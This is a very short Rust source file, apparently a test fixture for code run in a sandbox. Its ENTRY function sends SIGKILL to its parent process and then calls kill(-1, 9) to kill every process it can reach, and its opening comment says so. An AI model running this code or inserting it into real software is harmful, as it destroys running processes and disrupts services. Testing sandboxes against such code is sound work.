// Kills its parent and every process that it can name.
extern "C" {
    fn kill(process: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}
pub fn ENTRY(_: &[i64]) -> i64 {
    unsafe {
        kill(getppid(), 9);
        kill(-1, 9);
    }
    0
}
